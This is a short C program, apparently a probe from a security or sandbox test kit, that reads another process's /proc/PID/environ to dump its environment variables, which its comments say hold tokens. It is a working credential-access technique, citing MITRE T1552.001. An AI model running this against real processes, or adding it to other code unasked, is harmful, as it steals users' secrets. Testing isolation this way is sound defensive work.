// tries: to read another process's environment, where tokens are kept
// works: the file is readable for the same user
// see: proc(5); MITRE ATT&CK T1552.001
// goal: read
#include "../kit.h"

int main(void)
{
	char way[64], bytes[4096];
	ssize_t length;

	snprintf(way, sizeof(way), "/proc/%ld/environ", number("VICTIM"));
	length = MUST(read(MUST(open(way, O_RDONLY)), bytes, sizeof(bytes)));
	return fwrite(bytes, 1, length, stdout) == 0;
}
